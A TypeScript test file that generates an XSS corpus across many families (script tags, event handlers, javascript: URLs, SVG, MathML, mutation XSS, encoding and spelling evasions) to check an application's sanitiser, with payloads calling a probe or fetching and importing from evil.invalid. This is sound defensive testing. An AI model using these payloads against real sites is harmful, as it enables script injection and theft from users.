/**
 * The hostile input corpus (issue 15): XSS vectors written here from the public cheat-sheet families (tags,
 * attributes, URLs, SVG, MathML, mutation XSS, encodings, style escapes, template and context breaks), generated
 * as family templates × probe variants × spelling variants. Every vector has a number N and, if it ever runs,
 * calls the page's probe `__xss(N)` or asks another origin (`evil.invalid`, `xss.invalid`) for a URL holding N:
 * an execution is seen either by the probe (page.addInitScript) or by Playwright's request events. Every vector
 * that tries to bring in style carries the marker `xvN` inside the style text, so a style that got through is
 * found by its marker in any style sheet of the page or of a shadow root.
 *
 * Nothing here is copied from a cheat-sheet file: the templates are the families' well-known shapes, written out.
 */

export interface Vector {
  id: number;
  family: Family;
  /** The template it was made from (its index over all families): the vectors of one template behave alike. */
  template: number;
  /** The hostile text itself. */
  text: string;
}

export type Family =
  'tags' | 'attributes' | 'urls' | 'svg' | 'mathml' | 'mutation' | 'encodings' | 'styles' | 'contexts';

/** The other origins the vectors ask for (requests there are counted as failures). */
export const EVIL_HOSTS = ['evil.invalid', 'xss.invalid'];

/**
 * Templates: `$J` is replaced by a piece of JavaScript that calls the probe, `$U` by another-origin URL
 * naming the vector, `$N` by the vector's number.
 */
const TEMPLATES: Record<Family, string[]> = {
  tags: [
    '<script>$J</script>',
    '<script src="$U"></script>',
    '<script>/*</script><script>*/$J</script>',
    '<img src=x onerror="$J">',
    '<img src="x" onerror=$J>',
    '<image src=x onerror="$J">',
    '<body onload="$J">',
    '<iframe srcdoc="<script>parent.$J</script>"></iframe>',
    '<iframe src="javascript:parent.$J"></iframe>',
    '<object data="javascript:$J"></object>',
    '<embed src="javascript:$J">',
    '<video><source onerror="$J"></video>',
    '<audio src=x onerror="$J"></audio>',
    '<details open ontoggle="$J">',
    '<marquee onstart="$J">m</marquee>',
    '<input autofocus onfocus="$J">',
    '<select autofocus onfocus="$J"></select>',
    '<textarea autofocus onfocus="$J"></textarea>',
    '<form><button formaction="javascript:$J">b</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:$J">',
    '<base href="$U/">',
    '<link rel="import" href="$U">',
    '<link rel="prefetch" href="$U">',
    '<div onpointerover="$J" onmouseover="$J">hover</div>',
    '<x contenteditable onfocus="$J" autofocus>x</x>',
    '<style onload="$J"></style>',
    '<isindex type=image src=x onerror="$J">',
    '<keygen autofocus onfocus="$J">',
    '<img srcset="$U 1x">',
    '<picture><source srcset="$U"><img></picture>',
    '<video poster="$U"></video>',
    '<table background="$U"><tr><td>t</td></tr></table>',
  ],
  attributes: [
    '" onmouseover="$J" x="',
    "' onfocus='$J' autofocus x='",
    '"><img src=x onerror="$J">',
    "'><svg onload='$J'>",
    '" autofocus onfocus="$J',
    '`><img src=x onerror=`$J`>',
    '"/onerror="$J"/src=x "',
    'x" style="x:expression($J)',
    '"><iframe src="javascript:parent.$J">',
    '" accesskey="x" onclick="$J',
  ],
  urls: [
    '<a href="javascript:$J">link</a>',
    '<a href="JaVaScRiPt:$J">link</a>',
    '<a href="java&#x09;script:$J">link</a>',
    '<a href=" &#14; javascript:$J">link</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;$J">link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#$N">link</a>',
    '<a href="data:text/html,<script>opener.$J</script>">link</a>',
    '<a href="vbscript:msgbox($N)">link</a>',
    '<a href="$U">link</a>',
    '<a href="javascript://%0a$J">link</a>',
    '<img src="$U">',
    '<a href="\\\\evil.invalid\\$N">link</a>',
  ],
  svg: [
    '<svg onload="$J">',
    '<svg><script>$J</script></svg>',
    '<svg><script href="$U"></script></svg>',
    '<svg><animate onbegin="$J" attributeName="x" dur="1s">',
    '<svg><set attributeName="onmouseover" to="$J"/></svg>',
    '<svg><a><animate attributeName="href" values="javascript:$J"/><text x="20" y="20">x</text></a></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='$J'/></svg>#x\"/></svg>",
    '<svg><a xlink:href="javascript:$J"><text y="10">x</text></a></svg>',
    '<svg><foreignObject><img src=x onerror="$J"></foreignObject></svg>',
    '<svg><image href="$U"/></svg>',
    '<svg><style>@import "$U";</style></svg>',
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">$J</handler></svg>',
  ],
  mathml: [
    '<math><maction actiontype="statusline" xlink:href="javascript:$J">m</maction></math>',
    '<math><mtext><table><mglyph><style><img src=x onerror="$J">',
    '<math><annotation-xml encoding="text/html"><img src=x onerror="$J"></annotation-xml></math>',
    '<math href="javascript:$J">m</math>',
    '<math><mi xlink:href="javascript:$J">m</mi></math>',
    '<math><mtext><h1><a href="javascript:$J">m</a></h1></mtext></math>',
  ],
  mutation: [
    '<noscript><p title="</noscript><img src=x onerror=$J>">',
    '<svg></p><style><a id="</style><img src=x onerror=$J>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="$J">',
    '<listing>&lt;img src=x onerror=$J&gt;</listing>',
    '<xmp><p title="</xmp><img src=x onerror=$J>">',
    '<noembed><img title="</noembed><img src=x onerror=$J>"></noembed>',
    '<noframes><p title="</noframes><img src=x onerror=$J>">',
    '<title><img title="</title><img src=x onerror=$J>">',
    '<textarea><img title="</textarea><img src=x onerror=$J>">',
    '<!--><img src=x onerror=$J>-->',
    '<template><img src=x onerror=$J></template>',
    '<svg><![CDATA[><img src=x onerror=$J>]]></svg>',
    '<table><td><style></table><img src=x onerror=$J>',
    '<select><style></select><img src=x onerror=$J></style>',
    '<?xml-stylesheet ?><img src=x onerror=$J>',
  ],
  encodings: [
    '&lt;img src=x onerror=$J&gt;',
    '&#60;img src=x onerror=$J&#62;',
    '&#x3c;img src=x onerror=$J&#x3e;',
    '%3Cimg%20src%3Dx%20onerror%3D$J%3E',
    '\\u003cimg src=x onerror=$J\\u003e',
    '+ADw-img src=x onerror=$J+AD4-',
    '\uff1cimg src=x onerror=$J\uff1e',
    // NUL itself cannot be stored (PostgreSQL text; the API refuses it with 400): its entity and look-alikes instead.
    '<img src=x on&#0;error="$J">',
    '<scr&#0;ipt>$J</scr&#0;ipt>',
    '<img src=x on\u200berror="$J">',
    '&amp;lt;script&amp;gt;$J&amp;lt;/script&amp;gt;',
    '<img src=x onerror="&#x5f;&#x5f;xss($N)">',
    '\u202e<img src=x onerror="$J">',
  ],
  styles: [
    '<style>/*xv$N*/ body { display: none !important }</style>',
    '<style>/*xv$N*/ * { color: rgb(255, 0, 0) !important }</style>',
    '<style>/*xv$N*/ @import url("$U");</style>',
    '<style>/*xv$N*/ [data-hostile-sentinel] { visibility: hidden !important }</style>',
    '<div style="position:fixed;inset:0;z-index:2147483647;background:red" data-xv="$N">overlay</div>',
    '<p style="background:url($U)" data-xv="$N">bg</p>',
    '<link rel="stylesheet" href="$U">',
    '<span style="position:absolute;top:0;left:0;width:100vw;height:100vh" data-xv="$N">cover</span>',
    '</style><style>/*xv$N*/ html { filter: invert(1) }</style>',
    '<font face="x" style="font-size:500px" data-xv="$N">big</font>',
  ],
  contexts: [
    '</script><script>$J</script>',
    "';$J;//",
    '";$J;//',
    "{{constructor.constructor('$J')()}}",
    '${$J}',
    '<%= $J %>',
    '#{$J}',
    '</title></textarea></style></noscript><img src=x onerror="$J">',
    '-->"\'></a><img src=x onerror="$J">',
    ']]><img src=x onerror="$J">',
  ],
};

/** Pieces of JavaScript that call the probe or ask another origin (one per variant). */
const PROBES: ((n: number) => string)[] = [
  (n) => `__xss(${n})`,
  (n) => `top['__x'+'ss'](${n})`,
  (n) => `eval('__xss(${n})')`,
  (n) => `fetch('//evil.invalid/${n}')`,
  (n) => `import('//xss.invalid/${n}.js')`,
  (n) => `__xss&#40;${n}&#41;`,
];

const URLS: ((n: number) => string)[] = [
  (n) => `//evil.invalid/${n}`,
  (n) => `https://xss.invalid/${n}`,
  (n) => `http://evil.invalid/${n}?x`,
];

/** Spellings of tag and attribute names that sanitisers and filters have missed. */
const SPELLINGS: ((s: string) => string)[] = [
  (s) => s,
  (s) => s.replace(/<([a-z]+)/g, (_, tag: string) => `<${tag.toUpperCase()}`),
  (s) => s.replace(/<([a-z]+) /g, '<$1/').replace(/ on([a-z]+)=/g, '\non$1='),
];

/** Generates the corpus: every family template with every probe (or URL) and spelling, without duplicates. */
export function generateCorpus(): Vector[] {
  const vectors: Vector[] = [];
  const seen = new Set<string>();
  let templateIndex = -1;
  for (const [family, templates] of Object.entries(TEMPLATES) as [Family, string[]][]) {
    for (const template of templates) {
      templateIndex += 1;
      const usesJs = template.includes('$J');
      const usesUrl = template.includes('$U');
      const variants = usesJs ? PROBES.length : usesUrl ? URLS.length : 1;
      // Each probe (or URL) once, spelled in turn as written, in capitals, and with '/' and line breaks.
      for (let v = 0; v < variants; v += 1) {
        const spell = SPELLINGS[v % SPELLINGS.length]!;
        const id = vectors.length + 1;
        const text = spell(
          template
            .replaceAll('$J', usesJs ? PROBES[v]!(id) : '')
            .replaceAll('$U', URLS[usesUrl && !usesJs ? v : 0]!(id))
            .replaceAll('$N', String(id)),
        );
        // The id makes every text distinct; the key without it finds templates that spell out the same.
        const key = text.replaceAll(String(id), '#');
        if (seen.has(key)) continue;
        seen.add(key);
        vectors.push({ id, family, template: templateIndex, text });
      }
    }
  }
  return vectors;
}

/** The token each vector is sent with, to find it in the rendered page: `⟦N⟧` (plain text, survives sanitising). */
export function token(id: number): string {
  return `⟦${id}⟧`;
}

/** The vectors in groups of at most `size` characters of text each (token + vector, space separated). */
export function batches(vectors: Vector[], maxChars: number): Vector[][] {
  const out: Vector[][] = [];
  let current: Vector[] = [];
  let length = 0;
  for (const v of vectors) {
    const piece = token(v.id).length + 1 + v.text.length + 1;
    if (current.length && length + piece > maxChars) {
      out.push(current);
      current = [];
      length = 0;
    }
    current.push(v);
    length += piece;
  }
  if (current.length) out.push(current);
  return out;
}

/** A batch as one field value: each vector after its token. */
export function fieldValue(batch: Vector[]): string {
  return batch.map((v) => `${token(v.id)} ${v.text}`).join(' ');
}
